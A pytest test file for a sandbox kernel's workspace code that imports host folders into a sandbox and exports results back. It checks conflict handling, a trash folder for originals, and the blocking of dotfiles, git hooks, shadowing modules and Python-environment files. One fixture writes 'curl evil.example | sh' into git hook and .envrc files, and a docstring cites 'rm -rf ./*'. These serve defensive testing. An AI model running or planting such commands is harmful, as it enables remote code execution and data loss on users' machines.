"""Host folders: imported, exported, and never written over by surprise."""

from __future__ import annotations

import errno
import os
import shutil
from pathlib import Path

import pytest

from sandbox_kernel.errors import ExportConflict, QuotaExceeded, WorkspaceError
from sandbox_kernel.workspace import trash
from sandbox_kernel.workspace.exports import export
from sandbox_kernel.workspace.imports import import_folder
from sandbox_kernel.workspace.reports import Quota, UploadPolicy
from sandbox_kernel.workspace.store import Store
from tests.workspace.guests import Guest, snapshot


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The folder of a notebook."""
    (tmp_path / "nb" / "sub").mkdir(parents=True)
    (tmp_path / "nb" / "demo.ipynb").write_text("{}")
    (tmp_path / "nb" / "data.csv").write_text("a,b\n")
    (tmp_path / "nb" / "sub" / "more.csv").write_text("c,d\n")
    return tmp_path / "nb"


def test_export_to_an_empty_folder(store: Store, guest: Guest, tmp_path: Path) -> None:
    """An exported tree is what was saved, times included; a second export has nothing to do."""
    (guest.folder / "a").write_bytes(os.urandom(2_500_000))
    (guest.folder / "d").mkdir(mode=0o755)
    (guest.folder / "d" / "x").write_text("x")
    (guest.folder / "d" / "x").chmod(0o755)
    (guest.folder / "l").symlink_to("d/x")
    with (guest.folder / "holes").open("wb") as file:
        file.truncate(5_000_000)
    guest.persist(store)
    report = export(store, "work", tmp_path / "out")
    assert sorted(report.written) == ["a", "d/x", "holes", "l"]
    mine, theirs = snapshot(tmp_path / "out"), snapshot(guest.folder)
    for tree in (mine, theirs):
        tree["l"][1] = 0  # a symlink's own time is not brought to the host
    assert mine == theirs
    assert export(store, "work", tmp_path / "out").written == []


def test_upload_and_write_back(store: Store, guest: Guest, folder: Path) -> None:
    """Results come back beside the notebook; what the sandbox has not touched stays as it is on
    the host, also if it was changed there meanwhile."""
    import_folder(store, "work", folder, notebook="demo.ipynb")
    guest.hydrate(store)
    (guest.folder / "result").write_text("42")
    (guest.folder / "data.csv").write_text("a,b\n1,2\n")
    (guest.folder / "sub" / "more.csv").unlink()
    guest.persist(store)
    (folder / "demo.ipynb").write_text('{"saved": "by the user"}')
    report = export(store, "work", folder)
    assert sorted(report.written) == ["data.csv", "result"]
    assert (folder / "data.csv").read_text() == "a,b\n1,2\n"
    assert (folder / "demo.ipynb").read_text() == '{"saved": "by the user"}'
    assert (folder / "sub" / "more.csv").exists()


def test_one_file_that_cannot_be_written(
    store: Store, guest: Guest, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A mirror may not write to one place (permissions, a read-only mount): all else is written and
    remembered, so that the next changes of the sandbox are no conflicts. An export stops there."""
    names = ("a", "b", "c")
    moved = os.rename

    def refused(source: bytes, target: bytes, **more: int) -> None:
        if target == b"b":
            raise PermissionError(errno.EACCES, "Permission denied")
        moved(source, target, **more)

    for number in range(2):
        for name in names:
            (guest.folder / name).write_text(f"{name}{number}")
        guest.persist(store)
        with monkeypatch.context() as patch:
            patch.setattr(os, "rename", refused)
            report = export(store, "work", folder, mirror=True)
            assert sorted(report.written) == ["a", "c"]
            assert report.skipped == ["b: Permission denied"]
            with pytest.raises(WorkspaceError, match="Permission denied"):
                export(store, "work", folder)
        assert (folder / "c").read_text() == f"c{number}"
    assert export(store, "work", folder, mirror=True).written == ["b"]
    assert not list(folder.glob(".sandbox-kernel-*"))


def test_a_cell_deletes_nothing_on_the_host(store: Store, guest: Guest, folder: Path) -> None:
    """A folder was uploaded, and a cell runs `rm -rf ./*`: the originals stay, the notebook among
    them, whether deletions are mirrored or not. Of what the sandbox made itself, the copy on the
    host goes to a trash folder when that is asked for, unless the host has changed it."""
    import_folder(store, "work", folder, notebook=str(folder / "demo.ipynb"))
    guest.hydrate(store)
    for name in ("result", "sub/more", "touched"):
        (guest.folder / name).write_text(name)
    guest.persist(store)
    export(store, "work", folder, mirror=True)
    (folder / "touched").write_text("by the user")
    originals = {p: p.read_text() for p in folder.rglob("*") if p.is_file()}
    shutil.rmtree(guest.folder)
    guest.folder.mkdir()
    guest.persist(store)
    assert export(store, "work", folder, mirror=True).deleted == []
    assert {p: p.read_text() for p in folder.rglob("*") if p.is_file()} == originals

    report = export(store, "work", folder, mirror=True, delete=True)
    assert sorted(report.deleted) == ["result", "sub/more"]
    assert report.trash.startswith(str(folder / ".sandbox-kernel-trash"))
    assert (Path(report.trash) / "deleted" / "sub" / "more").read_text() == "sub/more"
    for name in ("demo.ipynb", "data.csv", "sub/more.csv", "touched"):
        assert (folder / name).read_text() == originals[folder / name]
    # Nothing of the trash ever enters a sandbox.
    import_folder(store, "again", folder, policy=UploadPolicy("folder", hidden=True))
    assert not [p for p, _ in store.files(store.find("again")) if "trash" in p]
    # Who wants what came from the host to go as well, says so; it is in the trash, too.
    told = export(store, "work", folder, delete=True, delete_imported=True)
    assert sorted(told.deleted) == ["data.csv", "demo.ipynb", "sub/more.csv"]
    assert (Path(told.trash) / "deleted" / "data.csv").read_text() == "a,b\n"


def test_a_cell_destroys_no_original(store: Store, guest: Guest, folder: Path) -> None:
    """A cell truncates all that was uploaded, and that is mirrored: the originals are in the trash
    folder. What the sandbox wrote there itself is replaced without a copy. The notebook is never
    written at all."""
    notebook = str(folder / "demo.ipynb")
    import_folder(store, "work", folder, notebook=notebook)
    guest.hydrate(store)
    for path in (p for p in guest.folder.rglob("*") if p.is_file()):
        path.write_text("")
    (guest.folder / "result").write_text("1")
    guest.persist(store)
    report = export(store, "work", folder, mirror=True, notebook=notebook)
    assert [line.split(":")[0] for line in report.skipped] == ["demo.ipynb"]
    assert (folder / "demo.ipynb").read_text() == "{}"
    assert (folder / "data.csv").read_text() == ""
    kept = Path(report.trash) / "replaced"
    assert {str(p.relative_to(kept)): p.read_text() for p in kept.rglob("*") if p.is_file()} == {
        "data.csv": "a,b\n",
        "sub/more.csv": "c,d\n",
    }
    (guest.folder / "data.csv").write_text("more")
    (guest.folder / "result").write_text("2")
    guest.persist(store)
    report = export(store, "work", folder, mirror=True, notebook=notebook)
    assert sorted(report.written) == ["data.csv", "result"]
    assert not report.trash
    # Also what --overwrite replaces against the host's changes can be had back.
    (folder / "data.csv").write_text("by the user")
    (guest.folder / "data.csv").write_text("by the sandbox")
    guest.persist(store)
    report = export(store, "work", folder, overwrite=True)
    assert (Path(report.trash) / "replaced" / "data.csv").read_text() == "by the user"


def test_what_was_deleted_can_be_made_again(store: Store, guest: Guest, folder: Path) -> None:
    """A result that the sandbox deletes stays on the host, and is written over when the sandbox
    makes it again: that is no conflict, for the host has not changed it. Where the sandbox has a
    folder now, a mirror leaves the host's file alone, and writes all the rest."""
    (guest.folder / "result").write_text("1")
    guest.persist(store)
    export(store, "work", folder, mirror=True)
    (guest.folder / "result").unlink()
    guest.persist(store)
    export(store, "work", folder, mirror=True)
    (guest.folder / "result").write_text("2")
    guest.persist(store)
    assert export(store, "work", folder, mirror=True).written == ["result"]
    (guest.folder / "result").unlink()
    (guest.folder / "result").mkdir()
    (guest.folder / "result" / "inner").write_text("3")
    (guest.folder / "rest").write_text("4")
    guest.persist(store)
    report = export(store, "work", folder, mirror=True)
    assert report.written == ["rest"]
    assert [line.split(":")[0] for line in report.skipped] == ["result"]
    assert (folder / "result").read_text() == "2"


def test_the_trash_is_bounded(
    store: Store, guest: Guest, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sandbox that makes and deletes files all the time does not fill the host's disk with its
    own rubbish, and cannot push an original out of the trash by that."""
    monkeypatch.setattr(trash, "MOST_DELETED", 100_000)
    import_folder(store, "work", folder)
    guest.hydrate(store)
    (guest.folder / "data.csv").write_text("gone")
    guest.persist(store)
    original = Path(export(store, "work", folder, mirror=True).trash) / "replaced" / "data.csv"
    for _ in range(4):
        (guest.folder / "rubbish").write_bytes(os.urandom(60_000))
        guest.persist(store)
        export(store, "work", folder, mirror=True, delete=True)
        (guest.folder / "rubbish").unlink()
        guest.persist(store)
        assert export(store, "work", folder, mirror=True, delete=True).deleted == ["rubbish"]
    left = list((folder / ".sandbox-kernel-trash").glob("*/deleted/rubbish"))
    assert len(left) == 1
    assert original.read_text() == "a,b\n"


def test_conflicts(store: Store, guest: Guest, folder: Path) -> None:
    """A file that both have changed is not written over: nothing is written, unless told so."""
    import_folder(store, "work", folder)
    guest.hydrate(store)
    (guest.folder / "data.csv").write_text("by the sandbox")
    (guest.folder / "new").write_text("new")
    guest.persist(store)
    (folder / "data.csv").write_text("by the user")
    with pytest.raises(ExportConflict, match=r"data\.csv"):
        export(store, "work", folder)
    assert not (folder / "new").exists()
    for _ in range(2):  # a mirror writes the rest, and does not forget the conflict
        report = export(store, "work", folder, mirror=True)
        assert report.skipped == ["data.csv: changed on the host"]
        assert (folder / "data.csv").read_text() == "by the user"
    assert (folder / "new").read_text() == "new"
    assert export(store, "work", folder, overwrite=True).written == ["data.csv"]
    assert (folder / "data.csv").read_text() == "by the sandbox"


def test_changed_while_it_is_written(store: Store, guest: Guest, folder: Path) -> None:
    """The user saves files while an export of many goes on: what was compared before that is not
    written over, deleted, or taken for the sandbox's."""
    import_folder(store, "work", folder)
    guest.hydrate(store)
    (guest.folder / "old").write_text("old")
    guest.persist(store)
    export(store, "work", folder, mirror=True)
    (guest.folder / "old").unlink()
    for name in ("a", "data.csv", "new"):
        (guest.folder / name).write_text("by the sandbox")
    guest.persist(store)

    def user(progress: object) -> None:
        for name in ("data.csv", "new", "old"):
            (folder / name).write_text("by the user")

    report = export(store, "work", folder, mirror=True, delete=True, progress=user)
    assert (report.written, report.deleted, report.trash) == (["a"], [], "")
    listed = sorted(line.split(":")[0] for line in report.skipped)
    assert listed == ["data.csv", "new", "old"]
    for name in listed:
        assert (folder / name).read_text() == "by the user"
    with pytest.raises(ExportConflict):
        export(store, "work", folder)


def test_files_that_were_there(store: Store, guest: Guest, tmp_path: Path) -> None:
    """Files of a folder that was never exported to are not written over either."""
    (guest.folder / "f").write_text("saved")
    guest.persist(store)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "f").write_text("precious")
    with pytest.raises(ExportConflict):
        export(store, "work", tmp_path / "out")
    (tmp_path / "out" / "f").write_text("saved")
    assert export(store, "work", tmp_path / "out").written == []


def test_import_by_policy(store: Store, folder: Path) -> None:
    """All of a folder, but for what it ignores; or only what globs choose."""

    def saved(name: str) -> list[str]:
        return [path for path, _ in store.files(store.find(name))]

    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "x.pyc").write_text("x")
    (folder / "empty").mkdir()
    import_folder(store, "all", folder)
    assert saved("all") == ["data.csv", "demo.ipynb", "empty", "sub", "sub/more.csv"]
    import_folder(store, "some", folder, policy=UploadPolicy.parse(["*.csv"]))
    assert saved("some") == ["data.csv", "sub", "sub/more.csv"]
    import_folder(store, "top", folder, policy=UploadPolicy.parse("/*.csv, *.ipynb"))
    assert saved("top") == ["data.csv", "demo.ipynb"]
    (folder / ".sandboxignore").write_text("*.csv\n")
    import_folder(store, "ignoring", folder)
    assert saved("ignoring") == [".sandboxignore", "demo.ipynb", "empty", "sub"]
    assert import_folder(store, "all", folder).new
    assert not import_folder(store, "all", folder).new
    with pytest.raises(QuotaExceeded, match="Biggest"):
        import_folder(store, "all", folder, quota=Quota(max_files=2))
    with pytest.raises(WorkspaceError, match="cannot be read"):
        import_folder(store, "all", folder / "nowhere")


def test_hidden_files_of_the_host_stay_there(store: Store, folder: Path) -> None:
    """At a first opening, names that begin with a dot are uploaded only if .sandboxignore says so:
    there are credentials in them."""
    for name in (".git/config", ".env", ".streamlit/config.toml", "sub/.env"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("secret")
    (folder / ".sandboxignore").write_text("*.ipynb\n!.streamlit/\n")
    import_folder(store, "work", folder, policy=UploadPolicy.parse("folder"))
    assert [path for path, _ in store.files(store.find("work"))] == [
        ".sandboxignore",
        ".streamlit",
        ".streamlit/config.toml",
        "data.csv",
        "sub",
        "sub/more.csv",
    ]


def test_hidden_files_of_a_sandbox_stay_there(store: Store, guest: Guest, folder: Path) -> None:
    """What programs of the host obey is not written there unless that is asked for."""
    import_folder(store, "work", folder)
    guest.hydrate(store)
    for name in (".git/hooks/pre-commit", ".git/config", "sub/.envrc", "plain"):
        (guest.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (guest.folder / name).write_text("curl evil.example | sh")
    guest.persist(store)
    for _ in range(2):
        report = export(store, "work", folder, mirror=True, delete=True)
        assert [line.split(":")[0] for line in report.skipped] == [".git", "sub/.envrc"]
    assert (folder / "plain").exists()
    assert not (folder / ".git").exists()
    assert not (folder / "sub" / ".envrc").exists()
    report = export(store, "work", folder, hidden=True)
    assert sorted(report.written) == [".git/config", ".git/hooks/pre-commit", "sub/.envrc"]
    assert not report.skipped


def test_holes_cost_nothing(
    store: Store, guest: Guest, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that is nearly all hole, with a byte changed: comparing it with the host's does not
    read the hole, and it stays one. Zeros that the host has there are the same."""
    with (guest.folder / "big").open("wb") as file:
        file.truncate(256 * 2**20)
    guest.persist(store)
    export(store, "work", folder, mirror=True)
    with (guest.folder / "big").open("r+b") as changed:
        changed.seek(200 * 2**20)
        changed.write(b"x")
    guest.persist(store)
    read = 0
    pread = os.pread

    def counting(fd: int, size: int, offset: int) -> bytes:
        nonlocal read
        read += size
        return pread(fd, size, offset)

    monkeypatch.setattr(os, "pread", counting)
    assert export(store, "work", folder, mirror=True).written == ["big"]
    assert read < 8 * 2**20
    assert (folder / "big").stat().st_blocks * 512 < 8 * 2**20
    with (folder / "big").open("r+b") as changed:
        changed.write(bytes(2**20))
    with (guest.folder / "big").open("r+b") as changed:
        changed.seek(100 * 2**20)
        changed.write(b"y")
    guest.persist(store)
    assert export(store, "work", folder, mirror=True).written == ["big"]
    assert read < 16 * 2**20


def test_apparent_sizes_count(store: Store, guest: Guest, folder: Path) -> None:
    """Programs of the host may read or copy a hole as so many zeros: what a file seems to hold
    counts. An export says so; a mirror leaves the worst out, and writes the rest."""
    for name, size in (("hole", 2**36), ("small hole", 2**30)):
        with (guest.folder / name).open("wb") as file:
            file.truncate(size)
    (guest.folder / "result").write_text("42")
    guest.persist(store)
    with pytest.raises(QuotaExceeded, match="hole"):
        export(store, "work", folder)
    report = export(store, "work", folder, mirror=True)
    assert sorted(report.written) == ["result", "small hole"]
    assert [line.split(":")[0] for line in report.skipped] == ["hole"]
    assert not (folder / "hole").exists()
    assert export(store, "work", folder, quota=Quota(max_bytes=2**37)).written == ["hole"]


def test_policies() -> None:
    """How an upload policy is written."""
    assert UploadPolicy.parse("none") == UploadPolicy.parse("") == UploadPolicy()
    assert UploadPolicy.parse("folder").mode == "folder"
    assert UploadPolicy.parse("*.csv, data/").globs == ("*.csv", "data/")
    assert UploadPolicy.parse([]).mode == "none"


def test_new_modules_are_not_written_to_where_this_process_imports_from(
    store: Store, guest: Guest, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A server that was started as `python -m jupyterlab` in the notebook's folder imports from
    there what it has not imported yet: a cell's smtplib.py would be the server's. What the host
    has is written as ever, and so is what is no module of its own."""
    (folder / "helper.py").write_text("1")
    import_folder(store, "work", folder)
    guest.hydrate(store)
    bad = ("smtplib.py", "cgi.cpython-311-x86_64-linux-gnu.so", "mailbox/__init__.py")
    good = ("helper.py", "results/table.py", "script.pyw", "data.csv")
    for name in (*bad, *good):
        (guest.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (guest.folder / name).write_text("evil")
    guest.persist(store)
    monkeypatch.syspath_prepend(str(folder))
    report = export(store, "work", folder, mirror=True)
    assert sorted(report.written) == sorted(good)
    assert {line.split(":")[0] for line in report.skipped} == {*bad[:2], "mailbox"}
    monkeypatch.undo()
    assert sorted(export(store, "work", folder, mirror=True).written) == sorted(bad)


def test_our_own_folders_are_not_the_sandboxes(
    store: Store, guest: Guest, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The data folder (records, tokens, saves) lies in the notebook's folder: it does not go into
    the sandbox, and no cell writes there, whoever asks for hidden files."""
    monkeypatch.setenv("SANDBOX_KERNEL_DATA_DIR", str(folder / "sub" / "data"))
    (folder / "sub" / "data").mkdir(parents=True)
    (folder / "sub" / "data" / "token").write_text("secret")
    (folder / "sub" / "plain").write_text("1")
    for policy in (None, UploadPolicy("globs", globs=("sub/",))):
        save = import_folder(store, "work", folder, policy=policy).save
        assert {path for path, _ in store.files(save)} >= {"sub/plain"}
        assert not any(path.startswith("sub/data") for path, _ in store.files(save))
    guest.hydrate(store)
    (guest.folder / "sub" / "data" / "records").mkdir(parents=True)
    (guest.folder / "sub" / "data" / "records" / "x.json").write_text("evil")
    (guest.folder / "link").symlink_to("sub/data/records")
    guest.persist(store)
    for hidden in (False, True):
        report = export(store, "work", folder, mirror=True, hidden=hidden)
        assert not report.written
        assert {line.split(":")[0] for line in report.skipped} == {"link", "sub/data"}


def test_python_environments_are_not_written(store: Store, guest: Guest, folder: Path) -> None:
    """A cell writes a .pth file, or an interpreter, into the environment that lies beside the
    notebook, or makes the folder itself one: the host's next interpreter would run that. Weights
    of a model with the same suffix, and an ordinary folder named bin, are written."""
    (folder / "venv" / "bin").mkdir(parents=True)
    (folder / "venv" / "bin" / "python").symlink_to("/usr/bin/python3")
    (folder / "venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    import_folder(store, "work", folder)
    guest.hydrate(store)
    site = "lib/python3.11/site-packages"
    bad = (
        *(f"venv/{site}/evil.pth", "venv/bin/python3", "venv/pyvenv.cfg"),
        *(f"own/{site}/evil.pth", "own/pyvenv.cfg", "conda/conda-meta/history", "conda/bin/sh"),
        *("pyvenv.cfg", "sitecustomize.py", "sub/usercustomize/__init__.py", f"{site}/evil.pth"),
    )
    good = ("bin2/run", "model.pth", "sub/bin/run", "venv/notes.txt")
    for name in (*bad, *good):
        (guest.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (guest.folder / name).write_text("import evil")
    (guest.folder / "results.csv").symlink_to(f"venv/{site}/evil.pth")
    guest.persist(store)
    report = export(store, "work", folder, mirror=True)
    assert sorted(report.written) == sorted(good)
    assert (folder / "venv" / "pyvenv.cfg").read_text() == "home = /usr/bin\n"
    left_out = {line.split(":")[0] for line in report.skipped}
    assert left_out == {
        *("venv/lib", "venv/bin", "venv/pyvenv.cfg", "own/lib", "own/pyvenv.cfg"),
        *("conda/conda-meta", "conda/bin", "pyvenv.cfg", "sitecustomize.py"),
        *("sub/usercustomize", "lib", "results.csv"),
    }
    assert set(export(store, "work", folder, hidden=True, overwrite=True).written) >= set(bad)
